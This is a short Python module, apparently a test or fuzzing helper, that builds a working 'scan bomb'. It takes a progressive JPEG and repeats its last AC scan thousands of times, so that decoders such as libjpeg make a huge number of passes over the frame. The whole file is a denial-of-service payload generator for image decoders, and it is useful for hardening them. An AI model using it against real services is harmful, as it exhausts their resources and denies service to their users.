"""Hostile images made on the fly: a progressive-JPEG scan bomb.

A flat grey progressive JPEG's AC scans are nothing but end-of-band runs, a few dozen bytes each,
yet the decoder visits every block of the image for each one. Repeating its last AC scan N times
before the end marker makes a small file that costs libjpeg N passes over the whole frame.
"""

import io

from PIL import Image


def _scans(data: bytes) -> list[tuple[int, int]]:
    """(start, end) of each SOS segment with its entropy-coded data, in file order."""
    spans, pos = [], 2
    while pos < len(data) - 1:
        assert data[pos] == 0xFF, pos
        marker = data[pos + 1]
        if marker == 0xD9:  # EOI
            break
        length = int.from_bytes(data[pos + 2:pos + 4], "big")
        end = pos + 2 + length
        if marker == 0xDA:  # entropy-coded data runs to the next marker that is not stuffing/RST
            while True:
                end = data.index(b"\xff", end)
                if data[end + 1] == 0x00 or 0xD0 <= data[end + 1] <= 0xD7:
                    end += 2
                    continue
                break
            spans.append((pos, end))
        pos = end
    return spans


def scan_bomb(width: int = 4000, height: int = 4000, scans: int = 20_000,
              end_marker: bool = True) -> bytes:
    """A grey progressive JPEG of width x height whose last AC scan repeats `scans` times."""
    out = io.BytesIO()
    Image.new("L", (width, height), 128).save(out, "JPEG", progressive=True, quality=90)
    data = out.getvalue()
    start, end = _scans(data)[-1]
    body = data[:end] + data[start:end] * scans
    return body + b"\xff\xd9" if end_marker else body
